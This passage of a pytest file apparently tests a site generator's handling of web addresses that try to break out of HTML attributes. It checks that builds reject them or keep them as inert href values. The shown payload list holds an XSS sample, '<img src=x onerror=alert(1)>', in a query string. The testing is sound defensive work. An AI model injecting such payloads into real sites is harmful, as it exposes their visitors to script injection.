    "https://shop.example.com/?q=<img src=x onerror=alert(1)>",
]


@pytest.mark.parametrize("field", ADDRESS_FIELDS)
@pytest.mark.parametrize("value", BREAKOUT_ADDRESSES, ids=range(len(BREAKOUT_ADDRESSES)))
def test_a_web_address_with_a_quote_breakout_is_refused_or_stays_inside_its_attribute(
    make_site: Callable[..., Path], options: Callable[..., Options], theme: Theme, field: str, value: str
) -> None:
    files, name, line = address_site(field, value)
    content = make_site(files)
    try:
        build(options(content))
    except ContentError as error:
        shown = [str(problem) for problem in error.problems]
        assert any(row.startswith(f"content/{name}:{line}: '{field}' ") for row in shown), shown
        return
    hrefs = set()
    for page in (content.parent / "output").rglob("*.html"):
        markup = read_markup(page.read_text(encoding="utf-8"))
        problems = [problem for element in markup.elements for problem in element_problems(element, theme)]
        assert problems == [], page
        assert not markup.script_text, page
        hrefs |= {element.get("href") for element in markup.elements}
    assert value in hrefs  # the whole address, quotes included, stayed one attribute value
